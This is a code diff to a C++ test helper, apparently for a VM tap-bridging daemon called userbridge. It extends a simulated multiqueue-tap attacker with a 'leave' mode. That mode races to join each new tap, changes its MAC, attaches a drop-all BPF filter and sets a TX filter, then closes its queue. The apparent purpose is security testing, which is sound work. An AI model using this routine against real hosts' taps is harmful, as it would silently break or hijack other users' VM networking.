@@ -90,7 +90,7 @@
 //       for one whose MAC, as userbridge derived it before its derivation
 //       took a key (FNV-1a 64 over "UID\0VM\0BRIDGE\0" after the
 //       mac-prefix= PREFIX), is TARGET; print "vm=NAME tries=N ms=N"
-//   mq-join MS daemon:N|helper
+//   mq-join MS daemon:N|helper [leave]
 //       an attacker on multiqueue taps, for MS ms: tries TUNSETIFF
 //       IFF_TAP|IFF_MULTI_QUEUE, as whoever runs it, on each tap it sees
 //       appear (rtnetlink) and, over and over, on the next name: the
@@ -100,6 +100,11 @@
 //       queue it gets, holds it and prints "JOINED NAME" once that tap is up
 //       (granted, with our queue in it), "EVICTED NAME" if the tap is
 //       deleted under us, "HELD NAME" if it never came up in 3 s.
+//       With "leave", it holds no queue: it changes the tap as any queue's
+//       holder may (MAC 02:de:ad:be:ef:01; TUNATTACHFILTER, a classic BPF
+//       filter dropping every frame to every queue; TUNSETTXFILTER, only
+//       frames to 02:00:00:00:00:99), closes its queue at once and prints
+//       "LEFT NAME".
 //   sandbox ALLOWED -- CMD ARGS...
 //       exec CMD under a seccomp filter that allows the syscalls named in the
 //       file ALLOWED (one per line; names this architecture lacks are
@@ -115,6 +120,8 @@
 #include <dirent.h>
 #include <fcntl.h>
 #include <net/if.h>  // before the linux/ headers, which defer to it
+
+#include <linux/filter.h>
 #include <linux/if_arp.h>
 #include <linux/if_ether.h>
 #include <linux/if_packet.h>
@@ -144,6 +151,7 @@
 #include <fstream>
 #include <optional>
 #include <mutex>
+#include <set>
 #include <string>
 #include <thread>
 #include <utility>
@@ -338,6 +346,24 @@ int count_frames(int fd, const std::string& marker, int ms, int enough = INT_MAX
 }
 
 bool wait_frame(int fd, const std::string& marker, int ms) { return count_frames(fd, marker, ms, 1) == 1; }
+
+// A frame carrying `marker` on any of a multiqueue tap's queues (the kernel
+// picks one per flow), within `ms`.
+bool wait_frame_any(const std::vector<ub::UniqueFd>& queues, const std::string& marker, int ms) {
+    auto end = std::chrono::steady_clock::now() + std::chrono::milliseconds(ms);
+    std::vector<pollfd> p;
+    for (const ub::UniqueFd& q : queues) p.push_back({q.get(), POLLIN, 0});
+    uint8_t buf[65536];
+    while (std::chrono::steady_clock::now() < end) {
+        if (poll(p.data(), p.size(), 50) <= 0) continue;
+        for (const pollfd& q : p) {
+            if (!(q.revents & POLLIN)) continue;
+            ssize_t n = read(q.fd, buf, sizeof buf);
+            if (n > 0 && contains(buf, static_cast<std::size_t>(n), marker)) return true;
+        }
+    }
+    return false;
+}
 
 // A frame of 1000 bytes (after any virtio_net_hdr) carrying `marker`.
 std::vector<uint8_t> big_frame(const std::string& marker, std::size_t vnet_hdr_len) {
@@ -559,7 +585,7 @@ int cmd_call(std::vector<std::string> a) {
         std::printf("count=%d\n", count_frames(tap, count_marker, count_ms));
         std::fflush(stdout);
     }
-    if (!expect.empty() && !wait_frame(tap, expect, 5000)) {
+    if (!expect.empty() && !wait_frame_any(fds.value(), expect, 5000)) {
         std::printf("expected frame not seen\n");
         return 4;
     }
@@ -1029,10 +1055,33 @@ bool settle(const Joined& j, int sock) {
     return true;
 }
 
+// What the holder of any queue of a tap may do to the whole device, no
+// privilege needed (drivers/net/tun.c, __tun_chr_ioctl), and what stays
+// when that queue is closed.
+void change_and_leave(int q) {
+    ifreq ifr{};
+    ifr.ifr_hwaddr.sa_family = ARPHRD_ETHER;
+    const unsigned char mac[6] = {0x02, 0xde, 0xad, 0xbe, 0xef, 0x01};
+    std::memcpy(ifr.ifr_hwaddr.sa_data, mac, 6);
+    (void)ioctl(q, SIOCSIFHWADDR, &ifr);
+    static sock_filter drop_all[] = {{BPF_RET | BPF_K, 0, 0, 0}};
+    sock_fprog prog{1, drop_all};
+    (void)ioctl(q, TUNATTACHFILTER, &prog);
+    // struct tun_filter {flags, count} and then count addresses.
+    alignas(tun_filter) unsigned char only[sizeof(tun_filter) + ETH_ALEN] = {};
+    tun_filter head{0, 1};
+    std::memcpy(only, &head, sizeof head);
+    const unsigned char addr[ETH_ALEN] = {0x02, 0, 0, 0, 0, 0x99};
+    std::memcpy(only + sizeof head, addr, ETH_ALEN);
+    (void)ioctl(q, TUNSETTXFILTER, only);
+}
+
 // mq-join's state, shared by its threads.
 struct MqAttack {
     std::chrono::steady_clock::time_point until;
     bool helper = false;          // predict tap<pid>, else the daemon's tap<next>
+    bool leave = false;           // change the tap, then let go of the queue
+    std::set<std::string> left;   // with leave: each tap once (our changes announce it again)
     std::atomic<unsigned> next{0};
     ub::UniqueFd last_pid{open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC)};
     std::mutex m;
@@ -1054,7 +1103,22 @@ struct MqAttack {
         ifreq ifr{};
         std::snprintf(ifr.ifr_name, IFNAMSIZ, "%s", name.c_str());
         ifr.ifr_flags = IFF_TAP | IFF_NO_PI | IFF_MULTI_QUEUE;
+        if (leave) {
+            std::lock_guard lock(m);
+            if (left.count(name) != 0) return;
+        }
         if (ioctl(tun.get(), TUNSETIFF, &ifr) != 0) return;
+        if (leave) {
+            std::lock_guard lock(m);
+            left.insert(name);
+            change_and_leave(tun.get());
+            std::printf("LEFT %s\n", name.c_str());
+            std::fflush(stdout);
+            auto fresh = ub::net::open_tun();
+            if (!fresh.ok()) die("open /dev/net/tun");
+            tun = std::move(*fresh);  // closes the queue we had
+            return;
+        }
         std::lock_guard lock(m);
         held.push_back({std::move(tun), name, std::chrono::steady_clock::now() + std::chrono::seconds(3)});
         auto fresh = ub::net::open_tun();
@@ -1076,6 +1140,7 @@ int cmd_mq_join(const std::vector<std::string>& a) {
     MqAttack at;
     at.until = std::chrono::steady_clock::now() + std::chrono::milliseconds(std::stoi(a.at(0)));
     at.helper = a.at(1) == "helper";
+    at.leave = a.size() > 2 && a[2] == "leave";
     if (!at.helper) at.next = static_cast<unsigned>(std::stoul(a.at(1).substr(7)));
     auto monitor = ub::net::LinkMonitor::open();
     ub::UniqueFd sock(socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
